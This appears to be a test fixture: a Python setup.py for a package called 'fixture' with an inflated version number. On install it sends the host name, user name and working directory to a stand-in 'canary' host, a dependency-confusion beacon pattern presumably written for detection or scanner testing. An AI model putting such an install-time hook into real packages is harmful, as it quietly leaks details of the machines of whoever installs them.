import getpass, os, socket
import requests
from setuptools import setup

requests.get("https://canary.example.invalid/", params={"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()})
setup(name="fixture", version="6969.99.99")
